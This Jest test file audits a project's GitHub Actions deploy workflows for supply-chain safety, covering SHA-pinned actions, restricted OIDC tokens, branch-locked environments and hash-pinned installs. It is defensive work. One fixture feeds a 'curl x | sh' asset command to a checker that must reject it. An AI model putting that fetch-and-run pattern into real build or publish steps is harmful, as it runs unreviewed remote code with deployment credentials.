import { spawnSync } from 'child_process';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import { parse } from 'yaml';
import { DEPLOY_REF, DEPLOY_WORKFLOW } from '../lib/deploy-access-stack';

const ROOT = path.join(__dirname, '../..');
const WORKFLOWS = path.join(ROOT, '.github/workflows');

interface Step { name?: string; uses?: string; run?: string; with?: Record<string, unknown>; env?: Record<string, string> }
interface Job {
  needs?: string | string[];
  permissions?: Record<string, string> | string;
  environment?: string | { name: string };
  steps?: Step[];
  uses?: string;
}
interface Workflow { permissions?: Record<string, string> | string; jobs: Record<string, Job> }

const files = fs.readdirSync(WORKFLOWS).filter((f) => /\.ya?ml$/.test(f)).sort();
const text = (file: string) => fs.readFileSync(path.join(WORKFLOWS, file), 'utf8');
const workflow = (file: string) => parse(text(file)) as Workflow;

/** `uses:` lines that are not `owner/repo[/path]@<40 hex> # v<version>` (local `./` actions aside). */
function unpinned(source: string): string[] {
  const problems: string[] = [];
  source.split('\n').forEach((line, i) => {
    const m = /^\s*(?:-\s+)?uses:\s*(\S+)(.*)$/.exec(line);
    if (m === null || m[1].startsWith('./')) return;
    const pinned = /^[\w.-]+\/[\w.-]+(\/[\w./-]+)?@[0-9a-f]{40}$/.test(m[1]);
    const commented = /^\s+#\s*v\d+(\.\d+){0,2}\s*$/.test(m[2]);
    if (!pinned || !commented) problems.push(`line ${i + 1}: ${line.trim()}`);
  });
  return problems;
}

const CARGO_LAMBDA = /cargo-lambda(==([\w.]+))?/g;

describe('GitHub workflows', () => {
  test('every action is pinned to a full commit SHA, with its version in a comment', () => {
    expect(files.length).toBeGreaterThanOrEqual(2);
    for (const file of files) {
      expect([file, unpinned(text(file))]).toEqual([file, []]);
      expect(text(file)).toMatch(/uses:/);
    }
  });

  test('the pin check catches tags, branches, short SHAs and missing version comments (self-test)', () => {
    const sha = 'a'.repeat(40);
    expect(unpinned([
      '      - uses: actions/checkout@v4',
      '      - uses: actions/checkout@main # v4',
      `      - uses: actions/checkout@${'a'.repeat(39)} # v4.1.0`,
      `      - uses: actions/checkout@${sha}`,
      `      - uses: actions/checkout@${sha} # latest`,
      `      - uses: actions/checkout@${sha} # v4.1.0`,
      `      - uses: github/codeql-action/init@${sha} # v3`,
      '      - uses: ./.github/actions/local',
      '    uses: octo/reusable/.github/workflows/x.yml@v1',
    ].join('\n'))).toEqual([
      'line 1: - uses: actions/checkout@v4',
      'line 2: - uses: actions/checkout@main # v4',
      `line 3: - uses: actions/checkout@${'a'.repeat(39)} # v4.1.0`,
      `line 4: - uses: actions/checkout@${sha}`,
      `line 5: - uses: actions/checkout@${sha} # latest`,
      'line 9: uses: octo/reusable/.github/workflows/x.yml@v1',
    ]);
  });

  test('only the diff and deploy jobs may request an OIDC token; deploy runs in production, after diff', () => {
    const withToken: string[] = [];
    for (const file of files) {
      const wf = workflow(file);
      expect([file, JSON.stringify(wf.permissions ?? {})]).not.toEqual([file, expect.stringContaining('id-token')]);
      for (const [name, job] of Object.entries(wf.jobs)) {
        // Without job-level permissions a job inherits the workflow's; every job says its own.
        expect([file, name, job.permissions]).not.toEqual([file, name, undefined]);
        if (typeof job.permissions === 'object' && job.permissions['id-token'] === 'write') withToken.push(`${file}:${name}`);
      }
    }
    expect(withToken.sort()).toEqual(['deploy.yml:deploy', 'deploy.yml:diff']);
    const jobs = workflow('deploy.yml').jobs;
    expect(jobs.deploy.environment).toBe('production');
    // The diff runs before the approval, which the environment asks for when the deploy job starts.
    expect(jobs.diff.environment).toBeUndefined();
    expect(jobs.diff.needs).toBe('build');
    expect(jobs.deploy.needs).toEqual(['build', 'diff']);
  });

  test('the roles trust this workflow file on main: it exists, and runs on pushes to main', () => {
    expect(DEPLOY_REF).toBe('refs/heads/main');
    const wf = parse(fs.readFileSync(path.join(ROOT, DEPLOY_WORKFLOW), 'utf8')) as { on: { push: { branches: string[] } } };
    expect(wf.on.push.branches).toEqual(['main']);
  });

  test.each(['diff', 'deploy'])('the %s job runs only GitHub\'s and AWS\'s own actions, the built assembly and the CDK CLI', (name) => {
    const job = workflow('deploy.yml').jobs[name];
    const steps = job.steps ?? [];
    for (const step of steps) {
      if (step.uses !== undefined) expect(step.uses).toMatch(/^(actions|aws-actions)\//);
      if (step.run === undefined) continue;
      // No cargo, no app synth, no install scripts: the token never meets third-party code.
      expect(step.run).not.toMatch(/cargo|pip |synth|ts-node|npm (install|run|test)/);
      if (/npm ci/.test(step.run)) expect(step.run).toContain('--ignore-scripts');
    }
    expect(steps.some((s) => s.uses?.startsWith('actions/download-artifact@'))).toBe(true);
    const credentials = steps.find((s) => s.uses?.startsWith('aws-actions/configure-aws-credentials@'));
    expect(credentials?.with?.['mask-aws-account-id']).toBe(true);
    expect(credentials?.with?.['role-to-assume']).toBe(name === 'deploy' ? '${{ secrets.AWS_DEPLOY_ROLE_ARN }}' : '${{ secrets.AWS_DIFF_ROLE_ARN }}');
    const node = steps.find((s) => s.uses?.startsWith('actions/setup-node@'));
    expect(node?.with?.['package-manager-cache']).toBe(false);
    if (name === 'deploy') expect(steps.map((s) => s.run ?? '').find((r) => r.includes('cdk deploy'))).toContain('--app cdk.out');
  });

  test('the diff job writes cdk diff of the verified assembly (templates only) to the job summary', () => {
    const runs = (workflow('deploy.yml').jobs.diff.steps ?? []).map((s) => s.run ?? '');
    const verify = runs.findIndex((r) => r.includes('sha256sum --check') && r.includes('check-assembly.mjs cdk/cdk.out'));
    const diff = runs.findIndex((r) => r.includes('cdk diff'));
    expect([verify >= 0, diff > verify]).toEqual([true, true]);
    expect(runs[diff]).toContain('cdk diff --app cdk.out --method=template');
    expect(runs[diff]).toContain('>> "$GITHUB_STEP_SUMMARY"');
    // A failed diff still fails the job, after its output reached the summary.
    expect(runs[diff]).toMatch(/\|\| status=\$\?[\s\S]*exit "\$status"\s*$/);
  });

  test('the diff job checks, with gh api, that the deploy job\'s environment lets only main deploy', () => {
    const jobs = workflow('deploy.yml').jobs;
    const steps = jobs.diff.steps ?? [];
    const check = steps.findIndex((s) => (s.run ?? '').includes('check-environment.mjs'));
    expect(check).toBeGreaterThanOrEqual(0);
    expect(steps[check].run).toBe(`node cdk/scripts/check-environment.mjs ${jobs.deploy.environment}`);
    expect(steps[check].env).toEqual({ GH_TOKEN: '${{ github.token }}', GH_REPO: '${{ github.repository }}' });
    expect(jobs.diff.permissions).toMatchObject({ actions: 'read' });
    // Before the credentials: an unprotected environment gets no token at all.
    const credentials = steps.findIndex((s) => s.uses?.startsWith('aws-actions/configure-aws-credentials@'));
    expect(check).toBeLessThan(credentials);
  });

  test('check-environment fails unless the environment has a deployment branch rule that lets only main in', () => {
    const script = path.join(__dirname, '../scripts/check-environment.mjs');
    /** Runs the script with a fake `gh` answering `api PATH` from `answers`, logging each call. */
    const run = (answers: Record<string, unknown>) => {
      const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'imagegen-gh-'));
      try {
        fs.writeFileSync(path.join(dir, 'answers.json'), JSON.stringify(answers));
        fs.writeFileSync(path.join(dir, 'gh'), [
          `#!${process.execPath}`,
          'const fs = require("fs"); const path = require("path");',
          'fs.appendFileSync(path.join(__dirname, "calls"), process.argv.slice(2).join(" ") + "\\n");',
          'const answer = JSON.parse(fs.readFileSync(path.join(__dirname, "answers.json"), "utf8"))[process.argv[3]];',
          'if (answer === undefined) { console.error("gh: HTTP 404"); process.exit(1); }',
          'process.stdout.write(JSON.stringify(answer));',
        ].join('\n'), { mode: 0o755 });
        const result = spawnSync(process.execPath, [script, 'production'], {
          encoding: 'utf8', env: { ...process.env, PATH: `${dir}${path.delimiter}${process.env.PATH}` },
        });
        const calls = fs.existsSync(path.join(dir, 'calls')) ? fs.readFileSync(path.join(dir, 'calls'), 'utf8').trim().split('\n') : [];
        return { status: result.status, stderr: result.stderr, calls };
      } finally {
        fs.rmSync(dir, { recursive: true, force: true });
      }
    };
    const ENV = 'repos/{owner}/{repo}/environments/production';
    const POLICIES = `${ENV}/deployment-branch-policies`;
    const custom = (policies: unknown[]) => run({
      [ENV]: { name: 'production', deployment_branch_policy: { protected_branches: false, custom_branch_policies: true } },
      [POLICIES]: { total_count: policies.length, branch_policies: policies },
    });

    const none = run({ [ENV]: { name: 'production', deployment_branch_policy: null } });
    expect(none.status).toBe(1);
    expect(none.stderr).toContain('environment production: no deployment branch rule');
    expect(none.calls).toEqual([`api ${ENV}`]);

    expect(custom([{ name: 'main', type: 'branch' }])).toMatchObject({ status: 0, calls: [`api ${ENV}`, `api ${POLICIES}`] });
    expect(run({ [ENV]: { deployment_branch_policy: { protected_branches: true, custom_branch_policies: false } } }).status).toBe(0);

    const wide = custom([{ name: 'main', type: 'branch' }, { name: '*', type: 'branch' }, { name: 'v*', type: 'tag' }]);
    expect(wide.status).toBe(1);
    expect(wide.stderr).toContain('must allow only the branch main, not branch *, tag v*');
    expect(custom([]).stderr).toContain('(it names none)');
    // An answer gh cannot give (no such environment, no permission) fails too.
    expect(run({}).status).not.toBe(0);
  });

  test('the deploy job deploys only the assembly the build job packed, and only if publishing runs nothing', () => {
    const wf = workflow('deploy.yml') as Workflow & { jobs: Record<string, Job & { outputs?: Record<string, string> }> };
    expect(wf.jobs.build.outputs?.['assembly-sha256']).toBe('${{ steps.pack.outputs.sha256 }}');
    const runs = (wf.jobs.deploy.steps ?? []).map((s) => s.run ?? '');
    const verify = runs.findIndex((r) => r.includes('sha256sum --check'));
    const unpack = runs.findIndex((r) => r.includes('tar -xzf'));
    const check = runs.findIndex((r) => r.includes('node cdk/scripts/check-assembly.mjs cdk/cdk.out'));
    const deploy = runs.findIndex((r) => r.includes('cdk deploy'));
    expect(verify).toBeGreaterThanOrEqual(0);
    expect([verify <= unpack, unpack <= check, check < deploy]).toEqual([true, true, true]);
  });

  test('check-assembly refuses docker images and file assets that run a command, and passes plain files', () => {
    const script = path.join(__dirname, '../scripts/check-assembly.mjs');
    const run = (files: Record<string, unknown>, dockerImages: Record<string, unknown> = {}) => {
      const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'imagegen-assembly-'));
      try {
        fs.writeFileSync(path.join(dir, 'Imagegen.assets.json'), JSON.stringify({ version: '48.0.0', files, dockerImages }));
        const result = spawnSync(process.execPath, [script, dir], { encoding: 'utf8' });
        return { status: result.status, stderr: result.stderr };
      } finally {
        fs.rmSync(dir, { recursive: true, force: true });
      }
    };
    const plain = { abc: { source: { path: 'asset.abc', packaging: 'zip' }, destinations: {} } };
    expect(run(plain).status).toBe(0);
    const command = run({ ...plain, evil: { source: { executable: ['sh', '-c', 'curl x | sh'] }, destinations: {} } });
    expect(command.status).toBe(1);
    expect(command.stderr).toContain('file asset evil runs a command while publishing');
    const docker = run(plain, { img: { source: { directory: 'asset.img' }, destinations: {} } });
    expect(docker.status).toBe(1);
    expect(docker.stderr).toContain('docker image asset img');
  });

  test('the build job has no OIDC token and hands over the assembly', () => {
    const build = workflow('deploy.yml').jobs.build;
    expect(build.permissions).toEqual({ contents: 'read' });
    expect((build.steps ?? []).some((s) => s.uses?.startsWith('actions/upload-artifact@'))).toBe(true);
  });

  test('no checkout leaves the GitHub token in .git for later steps', () => {
    for (const file of files) {
      for (const job of Object.values(workflow(file).jobs)) {
        for (const step of job.steps ?? []) {
          if (step.uses?.startsWith('actions/checkout@')) expect([file, step.with?.['persist-credentials']]).toEqual([file, false]);
        }
      }
    }
  });

  test('no stack outputs (account ids in ARNs) are printed to the logs', () => {
    for (const file of files) {
      expect(text(file)).not.toMatch(/outputs-file|cdk-outputs|describe-stacks|get-caller-identity/);
    }
  });

  test('cargo-lambda is installed at one pinned version everywhere, by hash (scripts/requirements/cargo-lambda.txt)', () => {
    const installTools = fs.readFileSync(path.join(ROOT, 'scripts/install-tools.sh'), 'utf8');
    expect(installTools).toMatch(/pip install [^\n]*--require-hashes \\\n\s*-r "[^\n]*requirements\/cargo-lambda\.txt"/);
    const requirements = fs.readFileSync(path.join(ROOT, 'scripts/requirements/cargo-lambda.txt'), 'utf8');
    const pinned = /^cargo-lambda==([\w.]+) \\\n\s+--hash=sha256:[0-9a-f]{64}/m.exec(requirements)?.[1];
    expect(pinned).toMatch(/^\d+\.\d+\.\d+$/);
    // Every requirement is pinned (==) with at least one hash, as --require-hashes demands.
    const requirementLines = requirements.split('\n').filter((l) => /^[a-z]/i.test(l));
    for (const line of requirementLines) expect(line).toMatch(/^[\w.-]+==[\w.]+ \\$/);
    const sources = [
      ...files.map((f) => [`.github/workflows/${f}`, text(f)]),
      ['cdk/scripts/synth.sh', fs.readFileSync(path.join(__dirname, '../scripts/synth.sh'), 'utf8')],
    ];
    for (const [name, source] of sources) {
      for (const line of source.split('\n').filter((l) => /pip install/.test(l) && /cargo-lambda/.test(l))) {
        const versions = [...line.matchAll(CARGO_LAMBDA)].map((m) => m[2]);
        expect([name, line.trim(), versions]).toEqual([name, line.trim(), [pinned]]);
      }
    }
  });
});
